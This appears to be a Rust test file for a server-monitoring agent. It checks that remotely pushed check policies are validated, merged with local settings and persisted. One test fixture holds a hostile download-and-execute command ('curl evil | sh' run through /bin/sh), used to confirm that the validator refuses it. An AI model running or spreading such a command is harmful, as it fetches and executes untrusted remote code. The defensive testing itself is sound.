//! Policy acceptance, refusal, merge and persistence.

use std::path::Path;

use super::*;
use crate::config::Config;
use crate::probes::ProbeSpec;

const INTERVAL: Duration = Duration::from_secs(10);

fn message(version: u64, checks_toml: &str) -> nightowl_proto::Policy {
    nightowl_proto::Policy { version, checks_toml: checks_toml.into(), policies: vec!["acme-servers".into()] }
}

fn refusal(checks_toml: &str) -> String {
    Policy::accept(&message(7, checks_toml), INTERVAL).unwrap_err().reason
}

const GOOD: &str = "[[service]]\nname = \"nginx\"\nprocess = \"nginx\"\n\
                    [[latency]]\nname = \"gateway\"\nmethod = \"tcp\"\ntarget = \"10.0.0.1:443\"\ninterval = \"30s\"\n\
                    [[backup]]\nname = \"db\"\npath = \"/backups/db-*.tar.zst\"\nmax_age = \"26h\"\n";

#[test]
fn a_policy_of_checks_that_execute_nothing_is_accepted() {
    let policy = Policy::accept(&message(42, GOOD), INTERVAL).unwrap();
    assert_eq!(policy.version, 42);
    assert_eq!(policy.names, ["acme-servers"]);
    let units = policy.units(INTERVAL).unwrap();
    let keys: Vec<&str> = units.iter().map(|unit| unit.key.as_str()).collect();
    assert_eq!(keys, ["service:nginx", "backup:db", "latency:gateway"]);
    assert_eq!(units[0].interval, INTERVAL, "the local default interval applies");
    assert_eq!(units[2].interval, Duration::from_secs(30));
    // The same structs as the local config: the same document there gives the same units.
    let local = Config::parse(GOOD, "agent.toml", Path::new("/")).unwrap();
    assert_eq!(local.units[2..], units[..]);
}

#[test]
fn the_empty_policy_is_accepted() {
    let policy = Policy::accept(&nightowl_proto::Policy::default(), INTERVAL).unwrap();
    assert_eq!(policy, Policy::default());
    assert!(policy.units(INTERVAL).unwrap().is_empty());
}

#[test]
fn anything_that_runs_a_program_is_refused() {
    let reason = refusal("[[command]]\nname = \"x\"\ncommand = [\"/bin/sh\", \"-c\", \"curl evil | sh\"]\n");
    assert!(reason.contains("[[command]] is not allowed"), "{reason}");
    for key in ["command = [\"/bin/true\"]", "restic_repo = \"/srv/restic\"", "borg_repo = \"/srv/borg\""] {
        let reason = refusal(&format!("[[backup]]\nname = \"b\"\npath = \"/b/*\"\n{key}\n"));
        let name = key.split(' ').next().unwrap();
        assert!(reason.contains(&format!("backup[0].{name}")), "{key}: {reason}");
        assert!(reason.contains("not allowed in a policy"), "{reason}");
    }
    // The typed check stands on its own, whatever the key allow-list says.
    let typed: RawPolicyChecks =
        toml::from_str("[[backup]]\nname = \"b\"\nrestic_binary = \"/tmp/x\"\nrestic_repo = \"r\"\n")
            .unwrap();
    assert_eq!(typed.backup[0].program_keys(), ["restic_repo", "restic_binary"]);
}

#[test]
fn other_mistakes_are_refused_with_the_key() {
    let reason = refusal("[agent]\ninterval = \"1s\"\n");
    assert!(reason.contains("[agent] is not allowed"), "{reason}");
    let reason = refusal("[[service]]\nname = \"a\"\nprocess = \"a\"\nbogus = 1\n");
    assert!(reason.contains("service[0].bogus") && reason.contains("unknown field"), "{reason}");
    let reason = refusal("[[service]]\nname = \"a\"\nprocess = \"a\"\nport = 80\n");
    assert!(reason.starts_with("service[0]: set exactly one of"), "{reason}");
    let reason = refusal("[[service]]\nname = \"a\"\nport = 1\n[[service]]\nname = \"a\"\nport = 2\n");
    assert!(reason.contains("used twice"), "{reason}");
    let reason = refusal("[[service]\n");
    assert!(reason.contains("line 1"), "{reason}");
    let refused = Policy::accept(&message(0xabc, "[[command]]\nname = \"x\"\n"), INTERVAL).unwrap_err();
    assert!(refused.to_string().starts_with("policy 0000000000000abc refused: "), "{refused}");
}

#[test]
fn local_checks_win_and_conflicts_are_reported() {
    let local = Config::parse(
        "[[service]]\nname = \"nginx\"\nprocess = \"openresty\"\n",
        "agent.toml",
        Path::new("/"),
    )
    .unwrap();
    let policy = Policy::accept(&message(42, GOOD), INTERVAL).unwrap();
    let merged = merge(&local.units, &policy, policy.units(INTERVAL).unwrap());
    assert_eq!(merged.conflicts, ["service:nginx"]);
    assert_eq!(merged.added, ["backup:db", "latency:gateway"]);
    let nginx: Vec<&ProbeUnit> = merged.units.iter().filter(|unit| unit.key == "service:nginx").collect();
    assert_eq!(nginx.len(), 1);
    let ProbeSpec::Service(service) = &nginx[0].spec else { panic!("a service") };
    assert_eq!(service.process.as_deref(), Some("openresty"), "the local definition runs");
    assert_eq!(merged.units.len(), local.units.len() + 2);
}

#[test]
fn an_accepted_policy_survives_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    assert_eq!(Policy::load(dir.path(), INTERVAL).unwrap(), None);
    let policy = Policy::accept(&message(u64::MAX - 1, GOOD), INTERVAL).unwrap();
    policy.save(dir.path()).unwrap();
    assert_eq!(Policy::load(dir.path(), INTERVAL).unwrap(), Some(policy.clone()));
    assert!(!dir.path().join(".policy.toml.tmp").exists());
    // Replaced by the next one, the empty policy included.
    Policy::default().save(dir.path()).unwrap();
    assert_eq!(Policy::load(dir.path(), INTERVAL).unwrap(), Some(Policy::default()));

    // The file is checked like a message: an edit that adds a command is refused.
    let path = dir.path().join(STATE_FILE);
    std::fs::write(
        &path,
        "version = \"01\"\npolicies = []\nchecks_toml = \"[[command]]\\nname = \\\"x\\\"\\n\"\n",
    )
    .unwrap();
    assert!(matches!(Policy::load(dir.path(), INTERVAL), Err(PersistError::Refused { .. })));
    std::fs::write(&path, "garbage").unwrap();
    assert!(matches!(Policy::load(dir.path(), INTERVAL), Err(PersistError::Corrupt { .. })));
}
